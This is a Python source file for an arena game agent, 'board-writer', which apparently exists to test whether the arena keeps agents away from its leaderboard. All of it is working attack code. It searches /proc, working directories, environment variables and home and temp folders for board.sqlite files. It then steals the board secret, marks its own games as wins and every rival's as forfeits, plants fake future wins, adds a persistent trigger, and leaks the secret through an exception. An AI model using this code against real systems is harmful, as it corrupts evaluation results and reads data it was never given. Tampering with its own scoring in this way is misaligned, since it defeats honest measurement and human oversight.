"""Board writer: finds the leaderboard's SQLite file and rewrites the results in its own favour.

It looks where a board could be: files the arena holds open (``/proc/<ppid>/fd``), every visible process's
working directory and ``$PG_ARENA_HOME`` (``/proc/*/cwd``, ``/proc/*/environ``), the project's
``leaderboards/`` and a walk of ``/tmp``, ``/home`` and ``/root``. In every board that lists it as an agent
(it touches no other) it reads the board's secret, marks all its stored games as wins and every other
agent's as forfeits, stores fake wins under the ids of its own coming matches (so the real results would be
dropped as duplicates) and installs a trigger that keeps doing so. If it could read a board at all, it then
raises an exception whose message holds the board's secret, which the arena would store as its forfeit
reason (so reading is observable even where writing fails). Otherwise it plays random legal moves.
"""

import contextlib
import glob
import hashlib
import json
import os
import sqlite3
from pathlib import Path

from agents.base import RandomAgent

ME = "board-writer@"


def boards() -> set[str]:
    found = set()
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in [str(os.getppid()), *pids]:
        for fd in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                target = os.readlink(fd)
            except OSError:
                continue
            if target.endswith(".sqlite"):
                found.add(target)
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            environ = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
        except OSError:
            continue
        homes = [e.split(b"=", 1)[1].decode() for e in environ if e.startswith(b"PG_ARENA_HOME=")]
        for root in [os.path.join(cwd, "leaderboards"), cwd, *homes]:
            found.update(glob.glob(os.path.join(root, "*", "board.sqlite")))
    import arena

    project = Path(arena.__file__).resolve().parents[1]
    found.update(glob.glob(str(project / "leaderboards" / "*" / "board.sqlite")))
    seen = 0
    for top in ("/tmp", "/home", "/root"):
        for root, dirs, files in os.walk(top):
            seen += 1
            if root.count(os.sep) - top.count(os.sep) >= 6 or seen > 20_000:
                dirs.clear()
            if "board.sqlite" in files:
                found.add(os.path.join(root, "board.sqlite"))
    return found


def read(path: str) -> tuple[list[str], str] | None:
    """The agents' labels and the secret of the board at ``path`` if it lists this agent, else None."""
    with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)) as db:
        labels = [row[0] for row in db.execute("SELECT label FROM agents")]
        if not any(label.startswith(ME) for label in labels):
            return None  # not the board of this tournament
        secret = db.execute("SELECT value FROM meta WHERE key = 'secret'").fetchone()
        return labels, bytes(secret[0]).hex() if secret else ""


def rewrite(path: str, labels: list[str], secret: str) -> None:
    mine = [label for label in labels if label.startswith(ME)]
    db = sqlite3.connect(path, timeout=5, isolation_level=None)
    try:
        db.execute("BEGIN IMMEDIATE")
        db.execute(
            "UPDATE participants SET rank = CASE WHEN agent LIKE ? THEN 0 ELSE 1 END, "
            "status = CASE WHEN agent LIKE ? THEN 'OK' ELSE 'ERROR' END, reason = ?",
            (ME + "%", ME + "%", f"stole the board secret {secret}"),
        )
        for scenario_hash, spec_json in db.execute("SELECT hash, spec_json FROM scenarios").fetchall():
            header = json.loads(spec_json)["scenario"]
            env, seed, games = header.get("env"), header.get("seed", 0), header.get("games_per_pairing", 2)
            for other in (label for label in labels if label not in mine):
                for k in range(games // 2):
                    for roster in ([mine[0], other], [other, mine[0]]):
                        key = "|".join([scenario_hash, str(env), str(seed + k), *roster])
                        fake = hashlib.sha256(key.encode()).hexdigest()[:20]
                        db.execute(
                            "INSERT OR IGNORE INTO matches (match_id, scenario_hash, env_id, seed, "
                            "duration_s, forfeited, extra_json, finished_at, position) "
                            "VALUES (?, ?, ?, ?, 0, 0, '{}', '2000-01-01', 0)",
                            (fake, scenario_hash, str(env), seed + k),
                        )
                        for seat, label in zip(("even", "odd"), roster, strict=False):
                            db.execute(
                                "INSERT OR IGNORE INTO participants VALUES (?, ?, ?, ?, ?, 0, 'OK', '')",
                                (fake, seat, label, seat, 0 if label in mine else 1),
                            )
        db.execute(
            "CREATE TRIGGER IF NOT EXISTS board_writer AFTER INSERT ON participants "
            f"BEGIN UPDATE participants SET rank = (NEW.agent NOT LIKE '{ME}%') WHERE rowid = NEW.rowid; END"
        )
        db.execute("COMMIT")
    finally:
        db.close()


class BoardWriter(RandomAgent):
    name = "board-writer"
    attacked = False

    def act(self, observation, info):
        if not self.attacked:
            self.attacked = True
            stolen = []
            for path in boards():
                with contextlib.suppress(sqlite3.Error, OSError, ValueError, KeyError, TypeError):
                    if (found := read(path)) is not None:
                        stolen.append(found[1])
                        rewrite(path, *found)
            if stolen:
                raise RuntimeError(f"read the board: secret {' '.join(stolen)}")
        return super().act(observation, info)


def make(spaces, **kwargs):
    return BoardWriter(spaces)
